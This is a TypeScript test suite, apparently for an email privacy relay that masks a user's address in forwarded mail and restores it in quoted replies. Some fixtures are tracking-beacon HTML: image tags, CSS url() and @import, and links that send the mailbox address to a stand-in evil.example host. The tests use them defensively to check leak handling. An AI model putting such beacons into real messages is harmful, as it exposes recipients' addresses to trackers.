// What a contact sent comes back as it was sent, whatever it guessed: over random mails, every shape of client in the tree and
// quotes in many languages, the answers to a list of guesses with the mailbox on it and to one without are the same.
// POSTERN_ORACLE_PAIRS=10000 looks at more pairs.
import assert from "node:assert/strict";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { rounds } from "../../../../test/support/rounds.ts";
import { carrier } from "../carriers.fixture.ts";
import { findLeaks } from "../gate/leak-gate.ts";
import { differenceOf, KINDS, PAIRS, play } from "../oracle-play.fixture.ts";
import { diceOf, disguise } from "../random-tree.fixture.ts";
import { buildReply } from "../reply.ts";
import { order } from "../reply-order.fixture.ts";
import { createReplacer } from "../scrub/replace-addresses.ts";
import { createHider, keepingSent, rejoining, tokenDigest } from "./sent-content.ts";

const COUNT = Number(process.env.POSTERN_ORACLE_PAIRS ?? rounds(30, 150));

test("a list of guesses comes back the same, with the mailbox on it and without", (context) => {
  const found: string[] = [];
  const kinds = { built: 0, held: 0, refused: 0 };
  // The last ones: a program that makes text of HTML glued letters to words for the mailbox, and to a link with it; the marks
  // of a quote closed what a lone `<` had opened; lines of uuencode in HTML came back as one; codes in text files; a comment
  // within what browsers read as a tag was taken out.
  const seen = [
    ...[1_148_003_970, 302_003_325, 1_675_003_785, 922_001_322, 31_000_500, 31_003_998, 77_003_800],
    4_321_008_950,
  ];
  for (const seed of [...Array.from({ length: COUNT }, (_, at) => at + 1), ...seen]) {
    const [owner, other] = PAIRS[seed % PAIRS.length] as readonly [string, string];
    const redact = (["all", "all", "quoted", "off"] as const)[seed % 4];
    const kind = KINDS[Math.floor(seed / 4) % KINDS.length];
    assert.ok(redact && kind);
    const [one, two] = [owner, other].map((guess) => play(() => diceOf(seed), owner, guess, { redact, kind }).reply);
    assert.ok(one && two);
    kinds[two.kind] += 1;
    const difference = differenceOf(one, two);
    if (difference !== null) found.push(`${seed}: ${difference}`);
  }
  context.diagnostic(`${COUNT} pairs: ${JSON.stringify(kinds)}, ${found.length} different`);
  assert.deepEqual(found.slice(0, 12), []);
});

test("an address with a comment in it has one token, also where a tag is open around it", () => {
  for (const open of ["", '<x title="', "<F7>8 <y "]) {
    const html = `<p>a</p>${open}lena.quokka<!-- > -->@privat.example b`;
    const { text } = createHider([TOKEN], KEY).html(html);
    assert.ok(text.replace(/<!--[\s\S]*?-->/g, "").includes(TOKEN.reverse), text);
  }
});

const quote = (text: string) => text.replace(/(?<=^|\n)/g, "> ");

/** What the contact reads of its words when a program has changed their forward to `quoted`, and whether the gate is content. */
function back(hider: ReturnType<typeof createHider>, quoted: string, kind: "text" | "html" = "text") {
  const none = createReplacer([]);
  const scrub = createReplacer([{ from: OWNER, to: "alias@mask.example" }]);
  const sent = { key: KEY, digests: [...hider.digests], tokens: [TOKEN] };
  const keep = (taken: boolean) =>
    keepingSent(scrub, { sent, restored: [], seed: "abc", taken, others: none })[kind](quoted).text;
  return { read: keep(false), left: keep(true) };
}

const OWNER = "lena.quokka@privat.example";
const OTHER = "lena.quokkb@privat.example";
const TOKEN = { reverse: `r.${"c".repeat(26)}@mask.example`, email: OWNER };
const KEY = "00";

test("nothing that a program fetches is changed on the way in, and what it shows holds no mailbox", () => {
  const hider = createHider([TOKEN], KEY);
  const fetched = [
    `<img src="https://evil.example/?e=${OWNER}">`,
    `<img src='//evil.example/${OWNER.replace("@", "%40")}'>`,
    `<td background=https://evil.example/${OWNER}>`,
    `<p style="background:url(https://evil.example/${OWNER})">`,
    `<style>@import url(https://evil.example/${OWNER});</style>`,
    `<a href="https://evil.example/?e=${OWNER}">x</a>`,
  ];
  for (const html of fetched) assert.equal(hider.html(html).text, html);
  const shown = [OWNER, OWNER.toUpperCase(), OWNER.replace("@", "&#64;"), "lena.quokka at privat.example"];
  for (const text of shown) assert.doesNotMatch(hider.html(`<p>${text}</p>`).text, /quokka/i, text);
  assert.equal(hider.html(`<base href="https://evil.example/"><p>x</p>`).text, "<p>x</p>");
});

test("a reference without its semicolon goes on as a browser reads it, whatever was guessed", () => {
  const forwarded = (guess: string, at: string) => {
    const { text } = createHider([TOKEN], KEY).html(`<p title="x">${guess.replace("@", at)}</p>`);
    return text.replace(TOKEN.reverse, "it").replace(guess, "it");
  };
  for (const at of ["&#64", "&#0064", "&#x40", "&#X040", "&#64;", "&commat;"]) {
    assert.equal(forwarded(OWNER, at), '<p title="x">it</p>', at);
    assert.equal(forwarded("otto.walross@privat.example", at), '<p title="x">it</p>', at);
  }
  // Other characters, and names that need theirs: an `&` that no program can take for a reference.
  for (const [at, read] of [
    ["&#640", "&#640"],
    ["&plusmn;", "&plusmn;"],
    ["&commat", "&amp;commat"],
    ["&amp;#64", "&amp;#64"],
  ] as const) {
    assert.equal(forwarded("otto.walross@privat.example", at), `<p title="x">otto.walross${read}privat.example</p>`);
  }
});

test("a link comes back as it was sent, whatever a program that makes text of HTML glues to it", () => {
  const link = `https://evil.example/?e=${OWNER}`;
  for (const [html, quoted] of [
    [`<p>code <x\ny<br>${link}</p>`, `codeP${link}`],
    [`<p>${link}<b>/more</b></p>`, `${link}/more`],
    [`<p><b>x</b>${link}<i>&amp;z=1</i></p>`, `x${link}&z=1`],
    [`<table><tr><td>x</td><td>${link}</td><td>/y</td></tr></table>`, `x${link}/y`],
    [`<p>x</p><p>${link}</p><p>/y</p>`, `x${link}/y`],
    [
      `<p>https://evil.example/<b>?e=lena</b>.quokka@privat.example</p>`,
      `https://evil.example/?e=lena.quokka@privat.example`,
    ],
  ] as const) {
    const hider = createHider([TOKEN], KEY);
    hider.html(html);
    const sent = { key: KEY, digests: [...hider.digests], tokens: [] };
    const others = createReplacer([]);
    const scrubbed = createReplacer([{ from: OWNER, to: "alias@mask.example" }]);
    const kept = keepingSent(scrubbed, { sent, restored: [], seed: "seed", taken: false, others }).text(quoted).text;
    assert.equal(kept, quoted, html);
    assert.doesNotMatch(scrubbed.text(quoted).text, /quokka/, "not sent, it is scrubbed");
  }
});

test("words of a guess in two lines, and codes in it, come back with the marks of the quote where they were", () => {
  const forms: ((guess: string) => string)[] = [
    (guess) => guess.replace("@", " at\r\n"),
    (guess) => guess.replace("@", " at \r\n").replace(".example", " dot example"),
    (guess) => `see ${guess.replace("@", " [at]\r\n")} there`,
    (guess) => guess.replace("@", "%40").replace(".example", ".ex\r\nample"),
    (guess) => guess.replace("@", "\\u0040").replace("privat", "pri\r\nvat"),
    (guess) => guess.replace("@", "%\r\n40"),
  ];
  for (const [at, form] of forms.entries()) {
    for (const guess of [OWNER, OTHER]) {
      const hider = createHider([TOKEN], KEY);
      const quoted = quote(hider.text(form(guess)).text);
      assert.equal(back(hider, quoted).read, quote(form(guess)), `${at} ${guess}`);
    }
  }
  for (const guess of [OWNER, OTHER]) {
    const hider = createHider([TOKEN], KEY);
    const { text } = hider.html(`<p>${guess.replace("@", "\n   @")}</p>`);
    const html = rejoining({ key: KEY, digests: [...hider.digests, ...hider.lines], tokens: [TOKEN] }, "abc")(
      text,
      true,
    );
    assert.equal(back(hider, html, "html").read, `<p>${guess.replace("@", " @")}</p>`);
  }
});

test("what a picture is fetched from comes back in the brackets of a program that makes text of HTML", () => {
  const sources = (guess: string) => [
    `cid:${guess}`,
    `https://evil.example/p.gif?u=${guess.replace("@", "%40")}`,
    `data:image/svg+xml;base64,${Buffer.from(`<svg>${guess}</svg>`).toString("base64")}`,
  ];
  assert.doesNotMatch(back(createHider([TOKEN], KEY), `[cid:${OWNER}]`).read, /quokka/, "not sent, it is scrubbed");
  for (const guess of [OWNER, OTHER]) {
    for (const source of sources(guess)) {
      const hider = createHider([TOKEN], KEY);
      hider.html(`<p>Hi</p><img src="${source}">`);
      for (const quoted of [`> [${source}]`, `Hi[${source}] there`]) {
        const { read, left } = back(hider, quoted);
        assert.equal(read, quoted);
        if (guess === OWNER) assert.ok(!left.includes(source), "and nothing of it is left for the gate");
      }
    }
  }
});

test("an address that begins in a link and goes on in the next line comes back", () => {
  const forms: ((guess: string) => string)[] = [
    (guess) => `see\r\nhttps://${guess.replace("@", "@\r\n")}/x\r\nthere`,
    (guess) => `https://evil.example/${guess.replace("privat", "privat\r\n")}`,
  ];
  for (const [at, form] of forms.entries()) {
    for (const guess of [OWNER, OTHER]) {
      const hider = createHider([TOKEN], KEY);
      const quoted = quote(hider.text(form(guess)).text);
      assert.equal(back(hider, quoted).read, quote(form(guess)), `${at} ${guess}`);
    }
  }
});

test("a subject with blanks in a guess, in which the gate reads as in one, is known as a whole", () => {
  for (const subject of ["your lena .quokka@privat.example", "l e n a . q u o k k a @ p r i v a t . e x a m p l e"]) {
    const hider = createHider([TOKEN], KEY);
    const { text } = hider.field(subject);
    const { read, left } = back(hider, text);
    assert.equal(read, subject);
    const head = Buffer.from(`Subject: ${left}\r\n\r\n`);
    assert.deepEqual(findLeaks(head, { addresses: [OWNER], names: [], allowed: "nothing", given: [] }), []);
  }
  assert.equal(createHider([TOKEN], KEY).field(`for ${OWNER}`).text, `for ${TOKEN.reverse}`);
});

test("an answer to such a subject leaves, whatever its program writes before it, and any other is held", () => {
  const subject = "your lena .quokka@privat.example";
  const hider = createHider([TOKEN], KEY);
  hider.field(subject);
  const given = { ...order(OWNER), sent: { key: KEY, digests: [...hider.digests], tokens: [TOKEN] } };
  for (const before of ["", "Re: ", "AW: Re: ", "RE[2]: ", "=?utf-8?B?5Zue5aSN77ya?= "]) {
    const reply = buildReply(Buffer.from(`From: Anna <${OWNER}>\r\nSubject: ${before}${subject}\r\n\r\nhi\r\n`), given);
    assert.equal(reply.kind, "built", before);
  }
  const other = buildReply(
    Buffer.from(`From: ${OWNER}\r\nSubject: Re: lena .quokka@privat.example\r\n\r\nhi\r\n`),
    given,
  );
  assert.equal(other.kind, "held", "words of the author's own");
});

test("words beside the name of somebody whom a link names are taken out alike, and no tag is broken by it", () => {
  for (const [form, read] of [
    ["lena (WORDS) x", "lena x"],
    ["<b>(WORDS)</b> x", "<b>(IT)</b> x"],
    ["a<br>\n(WORDS), x", "a<br>, x"],
  ] as const) {
    for (const guess of [OWNER, OTHER]) {
      const words = guess.replace("@", " at ");
      const linked = { reverse: `r.${"q".repeat(26)}@mask.example`, email: OTHER };
      const hider = createHider([TOKEN], KEY, [linked]);
      const { text } = hider.html(`<a href="mailto:${guess}">x</a> ${form.replace("WORDS", words)}`);
      const shown = hider.linked.size > 0;
      const sent = { key: KEY, digests: [...hider.digests], tokens: [{ ...TOKEN, shown }], linked: [linked] };
      const restored = [
        { from: ` (${OTHER.replace("@", " at ")})`, to: "" },
        { from: OTHER.replace("@", " at "), to: OTHER },
      ];
      const scrub = createReplacer([{ from: OWNER, to: "alias@mask.example" }, ...restored]);
      const keeping = keepingSent(scrub, {
        sent,
        restored: [],
        seed: "abc",
        taken: false,
        others: createReplacer(restored),
      });
      const back = keeping.html(text).text.replace(/^<a[^>]*>x<\/a> /, "");
      assert.equal(back.replace(guess, "IT"), read, `${guess} ${form}`);
    }
  }
});

test("the owner's own words are no contact's, where that wrote the mailbox in references into a file", () => {
  const references = (text: string) => text.replace(/./g, (char) => `&#${char.charCodeAt(0)};`);
  const files = [
    (guess: string) => `<x>${references(guess)}</x>`,
    (guess: string) => `<list><y>first@x.example</y>\n<y>${references(guess)}, &#49;</y>\n</list>`,
    (guess: string) => `see\n"${references(guess)}"\n<b>x</b>`,
  ];
  for (const file of files) {
    for (const guess of [OWNER, OTHER]) {
      const hider = createHider([TOKEN], KEY);
      const { text } = hider.file(file(guess));
      assert.equal(text, file(guess), "its references stay");
      assert.equal(back(hider, text, "html").read, text);
      for (const kind of ["text", "html"] as const) {
        const { read } = back(hider, `I am ${OWNER}, "${OWNER}".\r\n${OWNER}\r\n`, kind);
        assert.doesNotMatch(read, /quokka/, "the author's own words");
      }
    }
  }
});

test("a blank that does not break comes back as programs write it", () => {
  const hider = createHider([TOKEN], KEY);
  const { text } = hider.html(`<p>${OWNER.replace("@", "&nbsp;@")}</p>`);
  assert.doesNotMatch(text, /quokka/);
  assert.equal(back(hider, text, "html").read, `<p>${OWNER.replace("@", "&nbsp;@")}</p>`);
});

test("packed text that is too long comes back, whatever stands in its beginning or its end", () => {
  const none = createReplacer([]);
  const long = "x".repeat(300_000);
  for (const wrap of [(link: string) => `see ${link} there`, (link: string) => `${link}\r\nand more`]) {
    const left = ["", OWNER].flatMap((guess) =>
      [`${guess}${long}`, `${long}${guess}`].map((content) => {
        const source = wrap(`https://t.example/${gzipSync(content).toString("base64url")}/end`);
        const hider = createHider([TOKEN], KEY);
        const { text } = hider.text(source);
        assert.equal(text, source, "it goes on as it came");
        const sent = { key: KEY, digests: [...hider.digests], tokens: [TOKEN] };
        const keep = (taken: boolean) => keepingSent(none, { sent, restored: [], seed: "abc", taken, others: none });
        assert.equal(keep(false).text(text).text, source);
        return keep(true).text(text).text;
      }),
    );
    assert.ok(
      left.every((one) => one === left[0] && one.length < 100),
      "and nothing of it is left for the gate",
    );
  }
});

test("encoded words in a text, text read two by two and xtext come back, whatever they hold", () => {
  const other = "otto.walross@privat.example";
  const none = createReplacer([]);
  const wide = (text: string) => Buffer.from(text.padEnd(60)).toString("utf16le");
  const write: ((guess: string) => string)[] = [
    (guess) => `see =?utf-8?Q?To=3A_${guess.slice(0, 6)}?=\r\n =?utf-8?Q?${guess.slice(6).replace("@", "=40")}?= there`,
    (guess) =>
      `see =?utf-8?B?${Buffer.from(guess.slice(0, 6)).toString("base64")}?= =?utf-8?Q?${guess.slice(6)}?= there`,
    (guess) => `see ${wide(`To ${guess} there`)}`,
    (guess) => `see ${wide(`o ${guess} there`)}\r\nand more`,
    (guess) => `orcpt=rfc822;${guess.replace("@", "+40")} there`,
  ];
  for (const [at, form] of write.entries()) {
    const [one, two] = [OWNER, other].map((guess) => {
      const source = form(guess);
      const hider = createHider([TOKEN], KEY);
      const quoted = hider.text(source).text.replace(/^/gm, "> ");
      const sent = { key: KEY, digests: [...hider.digests], tokens: [TOKEN] };
      const keep = (taken: boolean) => keepingSent(none, { sent, restored: [], seed: "abc", taken, others: none });
      assert.equal(keep(false).text(quoted).text, source.replace(/^/gm, "> "), `${at}`);
      const left = Buffer.from(`Content-Type: text/plain; charset=utf-8\r\n\r\n${keep(true).text(quoted).text}`);
      return findLeaks(left, { addresses: [OWNER], names: [], allowed: "nothing", given: [] }).length;
    });
    assert.deepEqual([one, two], [0, 0], `${at}`);
  }
});

test("text that is only glanced at holds nothing that a close look would find", () => {
  const tally = { changed: 0, left: 0 };
  for (let seed = 1; seed <= 1_000; seed += 1) {
    const dice = diceOf(seed);
    const email = [OWNER, "anna.b@gmail.com", "jo_ann-x@ho-me.example.co.uk"][dice(3)] as string;
    const spoken = [
      () => email,
      () => email.replace("@", " at "),
      () => email.replace("@", " [at] ").replaceAll(".", " [dot] "),
      () => email.replace("@", " at ").replaceAll(".", " dot "),
      () => email.replace(/[@.]/g, "_"),
      () => email.split("@").reverse().join("="),
      () => email.replace("@", "-at-").toUpperCase(),
      () => email.replace("a", "a."),
      () => disguise(dice, email),
      () => carrier(dice, email),
    ][dice(10)]?.();
    const place = dice(email.length);
    const broken = [spoken, spoken?.replace(new RegExp(`^(.{${place}})`), "$1\r\n> "), spoken?.slice(dice(9))][dice(3)];
    const text = `on Monday ${broken} wrote`;
    const looks = ["", " &"].map((sign) => {
      const hider = createHider([{ ...TOKEN, email }], KEY);
      return { text: hider.text(text + sign).text, digests: hider.digests.size, sign };
    });
    const [glanced, close] = looks;
    assert.equal(`${glanced?.text} &`, close?.text, `seed ${seed}: ${text}`);
    assert.equal(glanced?.digests, close?.digests, `seed ${seed}: ${text}`);
    tally[glanced?.text === text && glanced.digests === 0 ? "left" : "changed"] += 1;
  }
  assert.ok(tally.changed > 200 && tally.left > 30, JSON.stringify(tally));
});

test("a token that a program broke anywhere is known again", () => {
  const hider = createHider([TOKEN], KEY);
  const token = hider.text(OWNER).text;
  const sent = { key: KEY, digests: [...hider.digests], tokens: [TOKEN] };
  const none = createReplacer([]);
  const keeping = keepingSent(none, { sent, restored: [], seed: "abc", taken: false, others: none });
  const [head, tail] = [token.slice(0, 9), token.slice(9)];
  for (const between of ["\n> ", " > ", " ", "\n"]) {
    const given = `see ${head}${between}${tail} now`;
    assert.equal(keeping.text(given).text, `see ${OWNER.slice(0, 9)}${between}${OWNER.slice(9)} now`);
  }
});

test("the blanks and marks within a guess come back alike, whether it was the mailbox or not, however lines were broken", () => {
  const ways = [
    "lena.quokka  at  privat.example",
    "lena.quokka<!-- > -->@privat.example",
    "lena.quokka @privat.example",
  ];
  const body = `to ${ways.join(" or ")} or nobody`;
  const back = (guess: string, width: number) => {
    const hider = createHider([TOKEN], KEY);
    const forwarded = hider.text(body.replaceAll("quokka", guess)).text;
    assert.equal(forwarded.includes("quokka"), false);
    const quoted = forwarded.split(" ").map((word, at) => (at > 0 && at % width === 0 ? `\n> ${word}` : ` ${word}`));
    const sent = { key: KEY, digests: [...hider.digests, ...hider.lines], tokens: [TOKEN] };
    const none = createReplacer([]);
    const keeping = keepingSent(none, { sent, restored: [], seed: "abc", taken: false, others: none });
    return keeping.text(rejoining(sent, "abc")(`>${quoted.join("")}`, false)).text.replaceAll(guess, "GUESS");
  };
  for (const width of [2, 3, 4, 50]) {
    const want = back("quokkb", width);
    assert.doesNotMatch(want, /\n/);
    assert.equal(back("quokka", width), want, String(width));
  }
});

test("a lone `<` before a guess hides it neither on the way in nor in the quote", () => {
  const none = createReplacer([]);
  for (const broken of ["lena.quokka<!-- > -->@privat.example", 'lena.quokka<i t=">">@privat.example']) {
    for (const before of ["a <b c\n", "a <b c ", "a </b <b\n"]) {
      const hider = createHider([TOKEN], KEY);
      const forwarded = hider.text(`${before}${broken}; d`).text;
      assert.ok(!forwarded.includes("quokka"), forwarded);
      const sent = { key: KEY, digests: [...hider.digests], tokens: [TOKEN] };
      const keeping = keepingSent(none, { sent, restored: [], seed: "abc", taken: false, others: none });
      const quoted = `> ${forwarded.replaceAll("\n", "\n> ")}`;
      assert.equal(keeping.text(quoted).text, `> ${before.replaceAll("\n", "\n> ")}${broken}; d`);
    }
  }
});

test("a token is let out for whom its spelling came from, and for nobody else", () => {
  const hider = createHider([TOKEN], KEY);
  const spelled = "LENA.Quokka@privat.example";
  const token = hider.text(spelled).text;
  assert.match(token, /^r\.c{26}\+c[a-z2-7]+@mask\.example$/);
  const others = createReplacer([{ from: TOKEN.reverse, to: "k3x@mask.example" }]);
  const keeping = (digests: Iterable<string>) =>
    keepingSent(
      createReplacer([
        { from: OWNER, to: "k3x@mask.example" },
        { from: TOKEN.reverse, to: "k3x@mask.example" },
      ]),
      {
        ...{
          sent: { key: KEY, digests: [...digests], tokens: [TOKEN] },
          restored: [],
          seed: "seedseed",
          taken: false,
          others,
        },
      },
    );
  assert.equal(keeping(hider.digests).text(`> ${token}, ${OWNER}`).text, `> ${spelled}, k3x@mask.example`);
  for (const digests of [[], ["AAAAAAAAAAAAAAAAAAAAAA"], [tokenDigest(KEY, OWNER)]]) {
    assert.equal(keeping(digests).text(`> ${token}, ${OWNER}`).text, "> k3x@mask.example, k3x@mask.example");
  }
});

test("an owner's own link and signature are no contact's, whatever that guessed", () => {
  const hider = createHider([TOKEN], KEY);
  hider.html(`<p>${OWNER}</p><a href="https://evil.example/${OWNER}">x</a><a href="mailto:${OWNER}">y</a>`);
  const hidden = createReplacer([{ from: OWNER, to: "k3x@mask.example" }]);
  const { html } = keepingSent(hidden, {
    ...{
      sent: { key: KEY, digests: [...hider.digests], tokens: [TOKEN] },
      restored: [],
      seed: "seedseed",
      taken: false,
    },
    others: createReplacer([]),
  });
  const own = `<a href="mailto:${OWNER}">${OWNER}</a> <a href="https://own.example/${OWNER}">me</a> ${OWNER.replace("@", "&#64;")}`;
  assert.doesNotMatch(html(own).text, /quokka/);
});
